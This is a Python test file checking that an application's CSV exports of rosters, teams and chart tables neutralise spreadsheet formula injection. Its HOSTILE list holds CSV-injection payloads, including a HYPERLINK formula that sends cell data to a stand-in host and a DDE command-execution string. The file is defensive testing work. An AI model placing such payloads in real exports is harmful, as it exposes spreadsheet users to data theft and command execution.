"""Every CSV Vitals writes is neutral in a spreadsheet: formula-looking text stays text.

OWASP's CSV-injection list: a cell starting with =, +, -, @, tab or carriage return runs as a
formula. Each export here is fed hostile roster and team text, read back with the csv module
and checked cell by cell.
"""

import csv
import io

import pandas as pd

from accounts.roster import apply_import, export_roster, export_teams, plan_import
from insights import charts
from org.spreadsheet import FORMULA_STARTS, csv_text, from_cell, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_neutral(text: str) -> None:
    """No text cell a spreadsheet would run (a plain number such as -12 is a number)."""
    for row in cells(text):
        for cell in row:
            assert is_number(cell) or not cell.startswith(FORMULA_STARTS), repr(cell)


def test_text_cells_are_prefixed_and_numbers_stay_numbers():
    assert [safe_cell(h) for h in HOSTILE] == ["'" + h for h in HOSTILE]
    assert safe_cell(-12) == -12 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None
    assert safe_cell("Billing") == "Billing" and safe_cell("'quoted") == "'quoted"
    assert [from_cell(str(safe_cell(h))) for h in HOSTILE] == HOSTILE
    text = csv_text(["team", "enps"], [(h, -12) for h in HOSTILE])
    assert_neutral(text)
    assert [row[1] for row in cells(text)[1:]] == ["-12"] * len(HOSTILE)


def test_chart_tables_export_neutral_csv():
    frame = pd.DataFrame({"team": HOSTILE, "value": [-5.0] * 6 + [None]})
    text = charts.to_csv(frame).decode("utf-8")
    assert_neutral(text)
    rows = cells(text)
    assert rows[0] == ["team", "value"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert rows[-1][1] == "" and rows[1][1] == "-5.0"


def test_roster_and_teams_exports_are_neutral_and_round_trip(db):
    db["teams"].insert_all(
        [{"id": i + 1, "name": name, "parent_id": None} for i, name in enumerate(HOSTILE[:3])]
    )
    db["employees"].insert_all(
        [
            {
                "id": i + 1,
                "name": name,
                "email": f"p{i}@x.org",
                "team_id": 1 + i % 3,
                "start_date": "2020-01-06",
                "job_role": "-lead",
            }
            for i, name in enumerate(HOSTILE)
        ]
    )
    people, teams = export_roster(db, "admin"), export_teams(db, "admin")
    assert_neutral(people)
    assert_neutral(teams)
    plan = plan_import(db, teams, people)
    assert plan.ok, plan.errors
    apply_import(db, plan, "admin")
    names = [r[0] for r in db.execute("SELECT name FROM employees ORDER BY id")]
    roles = {r[0] for r in db.execute("SELECT job_role FROM employees")}
    assert names == [h.strip() for h in HOSTILE]  # the importer trims, as before
    assert roles == {"-lead"}
    assert db.execute("SELECT count(*) FROM teams").fetchone()[0] == 3
